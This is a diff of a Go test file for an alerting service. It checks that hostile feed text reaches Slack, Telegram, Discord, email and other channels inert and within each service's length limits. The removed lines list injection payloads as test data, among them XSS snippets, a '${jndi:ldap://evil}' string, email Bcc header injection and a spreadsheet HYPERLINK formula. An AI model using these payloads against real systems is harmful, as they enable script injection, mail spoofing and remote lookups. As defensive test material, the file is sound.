@@ -1,32 +1,52 @@
 package notify_test
 
 import (
+	"cmp"
 	"encoding/json"
 	"fmt"
-	"regexp"
+	"os"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
-	"unicode"
+	"unicode/utf16"
 	"unicode/utf8"
 
 	"faultline/pkg/event"
+	"faultline/services/alerter/internal/alert"
 	"faultline/services/alerter/internal/notify"
 	"faultline/services/alerter/internal/sinktest"
 )
 
 // hostile is what a feed may try to make a channel do.
-func hostile() []string {
-	return []string{
-		`<!channel>`, `<!here|here>`, `<!everyone>`, `<!subteam^S012|desk>`, `<@U012345>`, `<#C012345>`, `<https://evil.example|click here>`,
-		`@here`, `@channel`, `@everyone`, `@all`, `@desk`, `<@&123456>`, `<@123456>`, `<a:x:1>`, `<t:1:R>`,
-		`[click](https://evil.example)`, `[https://good.example](https://evil.example)`, `![x](https://evil.example/p.png)`, `<https://evil.example>`,
-		"`code`", "```block```", `*bold* _it_ ~no~ ||spoiler||`, "# heading", "> quote", `\`, `\\[x](y)`,
-		`<script>alert(1)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=alert(1)>`, `<iframe srcdoc="x">`, `<a href="javascript:alert(1)">x</a>`,
-		`</b><b>`, `<tg-spoiler>`, `&lt;script&gt;`, `&amp;`, `&#60;script&#62;`, `"><b onmouseover=alert(1)>`, `' onfocus='alert(1)`,
-		"x\r\nBcc: evil@evil.example", "x\nSubject: second", "x\r\n\r\nbody", "a\x00b\x08c\x1bd", "\u202Eevil\u202C", "\u2066x\u2069", "a\u200bb\u200dc\ufeff",
-		`{{ .ExternalURL }}`, `{{ template "x" }}`, `${jndi:ldap://evil}`, `%0d%0aBcc: x`, `=HYPERLINK("https://evil.example")`, "e" + strings.Repeat("\u0301", 500),
-		strings.Repeat("A", 10_000), strings.Repeat("👩‍👩‍👧‍👦", 2_000), "\xff\xfe\xed\xa0\x80", "\u2028line\u2029", "[[wiki]]", "|table|", "ﷺ" + strings.Repeat("\ufdfd", 300),
+func hostile(t *testing.T) (all []string) {
+	t.Helper()
+	data, err := os.ReadFile("testdata/injections.txt")
+	if err != nil {
+		t.Fatal(err)
 	}
+	for number, line := range strings.Split(string(data), "\n") {
+		if line == "" || strings.HasPrefix(line, "//") {
+			continue
+		}
+		count, quoted, many := strings.Cut(line, " \"")
+		times := 1
+		if many && !strings.HasPrefix(line, "\"") {
+			if times, err = strconv.Atoi(count); err != nil {
+				t.Fatalf("line %d: %v", number+1, err)
+			}
+			line = "\"" + quoted
+		}
+		one, err := strconv.Unquote(line)
+		if err != nil {
+			t.Fatalf("line %d: %v", number+1, err)
+		}
+		all = append(all, strings.Repeat(one, times))
+	}
+	if len(all) < 150 {
+		t.Fatalf("only %d hostile texts", len(all))
+	}
+	return all
 }
 
 // poisoned is the incident with the same hostile text in every place that a feed
@@ -40,89 +60,106 @@ func poisoned(text string) event.Incident {
 	r.URL = "https://user:pass@news.example.kg/a?x=" + text
 	r.Source.Title = "Outlet " + text
 	r.Source.Feed = "feed " + text
+	linked := *r
+	linked.Item, linked.URL = "9e8d7c6b5a493827160594837261504f", text
 	for i := range r.Findings {
 		r.Findings[i].Title += " " + text
 		r.Findings[i].Guard = text
 		r.Findings[i].Evidence[0].Text = text
 	}
 	in.Change.Reasons = []string{"because " + text}
+	in.Reports = append(in.Reports, linked)
 	return in
 }
 
+// TestHostileTextIsInert: every text of the corpus, in every place that a feed can
+// write to, is delivered by every channel and does nothing there.
 func TestHostileTextIsInert(t *testing.T) {
 	http, smtp := sinktest.HTTP(t), sinktest.SMTP(t)
-	c := loadAll(t, http.URL, smtp.URL)
-	if n := len(hostile()); n < 40 {
-		t.Fatalf("only %d hostile texts", n)
-	}
-	for _, text := range hostile() {
-		for _, r := range c.Receivers() {
-			for _, i := range r.Integrations {
-				sink := http
-				if i.Kind == "email" {
-					sink = smtp
-				}
-				before := len(sink.Messages())
-				got := i.Send(t.Context(), notification(i.Name, poisoned(text)), notify.Remarks{}, sinktest.Now())
-				if got.Outcome != notify.Sent {
-					t.Fatalf("%s with %.40q: %s %v", i, text, got.Outcome, got.Err)
-				}
-				inert(t, i.Kind, text, sink.Messages()[before])
+	for _, i := range loadAll(t, http.URL, smtp.URL).Receivers()[0].Integrations {
+		t.Run(i.Name, func(t *testing.T) {
+			sink := http
+			if i.Kind == "email" {
+				sink = smtp
 			}
-		}
+			known := keysOf(t, i.Kind, deliver(t, sink, i, poisoned("https://other.example/nothing")))
+			for _, text := range hostile(t) {
+				in := poisoned(text)
+				m := deliver(t, sink, i, in)
+				f := finder{own: ownLinks(in)}
+				f.read(t, i.Kind, m)
+				for _, key := range keysOf(t, i.Kind, m) {
+					if !slices.Contains(known, key) {
+						f.add("the key %s", key)
+					}
+				}
+				if len(f.found) > 0 {
+					t.Errorf("with %.40q it has %s", text, strings.Join(f.found, ", "))
+				}
+			}
+		})
 	}
 }
 
-// inert checks one message by the rules of its channel.
-func inert(t *testing.T, kind, text string, m sinktest.Message) {
+// deliver sends an incident and returns what the channel took.
+func deliver(t *testing.T, sink *sinktest.Sink, i *notify.Integration, incidents ...event.Incident) sinktest.Message {
 	t.Helper()
-	bad := func(what string) { t.Errorf("%s with %.40q: %s", kind, text, what) }
-	var shown string
-	if kind == "email" {
-		shown = readMail(t, m)
-	} else {
-		shown = strings.Join(stringsOf(t, m.Body), "\n")
+	before := len(sink.Messages())
+	got := i.Send(t.Context(), notification(i.Name, incidents...), notify.Remarks{}, sinktest.Now())
+	if got.Outcome != notify.Sent {
+		t.Fatalf("%s with %.40q: %s %v", i, incidents[0].Headline, got.Outcome, got.Err)
 	}
-	for _, r := range shown {
-		if r != '\n' && r != '\t' && r != '\u200b' && unicode.In(r, unicode.Cc, unicode.Cf) || r == utf8.RuneError {
-			bad(fmt.Sprintf("shows %U", r))
-			break
+	return sink.Messages()[before]
+}
+
+// ownLinks are the links of the reports of incidents, the longest first.
+func ownLinks(incidents ...event.Incident) (all []string) {
+	for _, in := range incidents {
+		for _, l := range alert.New(in).Links {
+			all = append(all, l.URL)
 		}
 	}
-	active := shown
-	if kind == "email" { // nothing is active in the text part
-		_, active, _ = strings.Cut(shown, "=== text/html")
-	}
-	for _, pattern := range dangers()[kind] {
-		if found := regexp.MustCompile(pattern).FindString(active); found != "" {
-			bad(fmt.Sprintf("shows %q", found))
-		}
-	}
-	if kind == "telegram" && utf8.RuneCountInString(shown) > 4200 {
-		bad(fmt.Sprintf("is %d characters long", utf8.RuneCountInString(shown)))
-	}
+	slices.SortFunc(all, func(a, b string) int { return cmp.Compare(len(b), len(a)) })
+	return all
+}
+
+// keysOf are the keys of a JSON message; none of a mail.
+func keysOf(t *testing.T, kind string, m sinktest.Message) (keys []string) {
+	t.Helper()
 	if kind == "email" {
-		head, _, _ := strings.Cut(shown, "\n===")
-		for _, line := range strings.Split(head, "\n") {
-			if regexp.MustCompile(`^(Bcc|body)`).MatchString(line) || strings.Count(head, "\nSubject:") > 1 {
-				bad("has a header of its own: " + line)
+		return nil
+	}
+	var doc any
+	if err := json.Unmarshal([]byte(m.Body), &doc); err != nil {
+		t.Fatal(err)
+	}
+	walk(doc, "", func(path, _ string) { keys = append(keys, path) })
+	return keys
+}
+
+// TestTheFinderFinds: what the corpus is searched for is found where it is.
+func TestTheFinderFinds(t *testing.T) {
+	for kind, bodies := range map[string][]string{
+		"slack":      {`{"text":"<!channel>"}`, `{"text":"<https://evil.example|x>"}`, `{"text":"see evil.example"}`, `{"text":"a < b"}`, `{"text":"@here"}`, `{"text":"a & b"}`, `{"title_link":"https://evil.example"}`},
+		"telegram":   {`{"text":"<script>x</script>"}`, `{"text":"<b>x"}`, `{"text":"<a href='https://evil.example'>x</a>"}`, `{"text":"/start"}`, `{"text":"@desk"}`, `{"text":"<b onclick=x>y</b>"}`},
+		"matrix":     {`{"formatted_body":"<font>x</font>"}`, `{"body":"@room"}`, `{"body":"#room:x"}`, `{"body":"a\u202eb"}`},
+		"discord":    {`{"x":"[a](https://evil.example)"}`, `{"x":"@everyone"}`, `{"x":"<@&1>"}`, `{"x":"||spoiler||"}`, `{"x":"# heading"}`, "{\"x\":\"`code`\"}", `{"x":"https://evil.example"}`},
+		"mattermost": {`{"x":"![a](https://evil.example/p.png)"}`, `{"x":"<b>x</b>"}`},
+		"ntfy":       {`{"message":"https://evil.example"}`, `{"click":"https://evil.example"}`, `{"message":"\ufffd"}`, `{`},
+	} {
+		for _, body := range bodies {
+			f := finder{own: []string{"https://own.example/a"}}
+			f.read(t, kind, sinktest.Message{Body: body})
+			if len(f.found) == 0 {
+				t.Errorf("%s: nothing found in %s", kind, body)
 			}
 		}
 	}
-}
-
-// dangers are what must not be in a message of each kind.
-func dangers() map[string][]string {
-	markdown := []string{`(^|[^\\])\]\(`, `@(here|channel|everyone|all|desk)`, `(^|[^\\])<[@#!a-z/]`}
-	tags := `<(?i:script|img|svg|iframe|tg-spoiler)|(?i:href="javascript)`
-	return map[string][]string{
-		"slack":      {`<[!@#]`, `<https?://evil`, `@(here|channel|everyone|all|desk)`, `<(script|img|svg|iframe|tg|a |/)`},
-		"discord":    markdown,
-		"mattermost": markdown,
-		"msteamsv2":  markdown,
-		"telegram":   {tags, `<b onm`, `<a href="https://evil`, `ZgotmplZ`},
-		"email":      {tags, `<b onm`, `href="https://evil`, `ZgotmplZ`},
-		"webhook":    {`user:pass`},
+	for kind, body := range map[string]string{"slack": `{"text":"<https://own.example/a|x> a &amp; b"}`, "telegram": `{"text":"<a href='https://own.example/a'>x</a>"}`, "discord": `{"x":"x: https://own.example/a\n**b**"}`} {
+		f := finder{own: []string{"https://own.example/a"}}
+		if f.read(t, kind, sinktest.Message{Body: body}); len(f.found) > 0 {
+			t.Errorf("%s: found %q in %s", kind, f.found, body)
+		}
 	}
 }
 
@@ -153,29 +190,85 @@ func stringsOf(t *testing.T, body string) []string {
 	return out
 }
 
-// TestLongMessagesAreCutByUs: Telegram's sender would send an excuse instead.
+// limits are what the services take of a message: of which string of its JSON, how
+// much, in which measure. A mail, a webhook and an alert have none.
+func limits() map[string]struct {
+	key   string
+	most  int
+	count func(string) int
+} {
+	type limit = struct {
+		key   string
+		most  int
+		count func(string) int
+	}
+	bytes := func(s string) int { return len(s) }
+	units := func(s string) int { return len(utf16.Encode([]rune(s))) }
+	return map[string]limit{
+		"slack":      {".attachments.text", 8_000, units},
+		"telegram":   {".text", 4096, units},
+		"discord":    {".embeds.description", 4096, units},
+		"mattermost": {".attachments.text", 16_383, utf8.RuneCountInString},
+		"msteamsv2":  {"", 28 << 10, bytes},
+		"matrix":     {"", 60_000, bytes},
+		"ntfy":       {".message", 4096, bytes},
+		"pagerduty":  {".payload.summary", 1024, utf8.RuneCountInString},
+	}
+}
+
+// TestLongMessagesAreCutByUs: what a service would cut, or refuse, has room for the
+// worst incidents, with their links whole, and says what it leaves out.
 func TestLongMessagesAreCutByUs(t *testing.T) {
-	http := sinktest.HTTP(t)
-	c := loadAll(t, http.URL, "127.0.0.1:1")
+	http, smtp := sinktest.HTTP(t), sinktest.SMTP(t)
 	var many []event.Incident
-	for i := range 60 {
-		in := poisoned(strings.Repeat("длинно & <очень> ", 40))
+	for i := range 30 {
+		in := poisoned(strings.Repeat("длинно & <очень> 👩‍👩‍👧 *x* ", 40))
 		in.ID = fmt.Sprintf("%032d", i)
+		in.Reports[0].URL = fmt.Sprintf("https://news.example.kg/%d?%s", i, strings.Repeat("a=b&", 100))
 		many = append(many, in)
 	}
-	for _, n := range []int{1, 2, 3, 10, 60} {
-		before := len(http.Messages())
-		got := integration(t, c, "telegram-0").Send(t.Context(), notification("telegram-0", many[:n]...), notify.Remarks{}, sinktest.Now())
-		if got.Outcome != notify.Sent {
-			t.Fatalf("%d incidents: %v", n, got.Err)
+	for _, i := range loadAll(t, http.URL, smtp.URL).Receivers()[0].Integrations {
+		sink := http
+		if i.Kind == "email" {
+			sink = smtp
 		}
-		text := strings.Join(stringsOf(t, http.Messages()[before].Body), "\n")
-		mustContain(t, text, "Governor")
-		if n == 60 {
-			mustContain(t, text, "more incidents did not fit into this message")
-		}
-		if strings.Contains(text, "could not be sent") || utf8.RuneCountInString(text) > 4200 {
-			t.Errorf("%d incidents: %d characters", n, utf8.RuneCountInString(text))
+		for _, n := range []int{1, 3, 30} {
+			m := deliver(t, sink, i, many[:n]...)
+			f := finder{own: ownLinks(many[:n]...)}
+			f.read(t, i.Kind, m)
+			if limit, ok := limits()[i.Kind]; ok {
+				text := m.Body
+				if limit.key != "" {
+					text = stringAt(t, m.Body, limit.key)
+				}
+				if got := limit.count(text); got > limit.most || got == 0 {
+					f.add("%d of %d", got, limit.most)
+				}
+			}
+			if len(f.found) > 0 {
+				t.Errorf("%s, %d incidents: %s", i.Name, n, strings.Join(f.found, ", "))
+			}
+			if i.Kind != "email" { // whose body is encoded
+				mustContain(t, m.Body, "Governor", "https://news.example.kg/0?")
+			}
+			if n == 30 && (i.Kind == "telegram" || i.Kind == "ntfy" || i.Kind == "discord") {
+				mustContain(t, m.Body, "more incidents did not fit into this message")
+			}
 		}
 	}
+}
+
+// stringAt is a string of a JSON document by its keys.
+func stringAt(t *testing.T, body, key string) (value string) {
+	t.Helper()
+	var doc any
+	if err := json.Unmarshal([]byte(body), &doc); err != nil {
+		t.Fatal(err)
+	}
+	walk(doc, "", func(path, s string) {
+		if path == key {
+			value = s
+		}
+	})
+	return value
 }
